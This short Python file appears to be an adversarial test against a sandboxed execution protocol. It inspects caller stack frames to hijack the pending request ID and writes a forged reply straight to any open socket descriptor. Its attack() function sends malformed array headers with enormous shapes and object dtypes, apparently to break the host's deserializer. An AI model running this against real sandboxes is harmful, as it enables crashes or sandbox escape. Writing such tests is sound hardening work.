import json
import os
import struct
import sys


def answer(value=None, output="", detail="", error=None, blobs=b"", sizes=(), raw=None, **more):
    """Answers the call that is under way in the place of the loop, and ends."""
    frame, number = sys._getframe(1), 0
    while frame is not None:
        request = frame.f_locals.get("request")
        number = request.body["number"] if hasattr(request, "body") else number
        frame = frame.f_back
    body = dict(reply=number, outcome="returned", value=value, arguments={}, seconds=0.0, error=error)
    body.update(output=output, detail=detail, **more)
    header = raw or json.dumps({"sizes": list(sizes), "body": body}).encode()
    packed = struct.pack("<4sBIQ", b"CNNG", 1, len(header), len(blobs)) + header + blobs
    for descriptor in range(3, 64):
        try:
            if os.path.islink(f"/proc/self/fd/{descriptor}") and "socket" in os.readlink(f"/proc/self/fd/{descriptor}"):
                while packed:
                    packed = packed[os.write(descriptor, packed) :]
        except OSError:
            pass
    os._exit(0)


import itertools

ARRAYS = itertools.cycle([["f8", [1 << 40] * 3, 0], ["f8", [0] + [1 << 40] * 30, 0], ["f16", [1], 0], ["O8", [1], 0]])


def attack():
    answer({"t": [{"a": next(ARRAYS)}, None]}, blobs=b"\xff" * 16, sizes=[16])
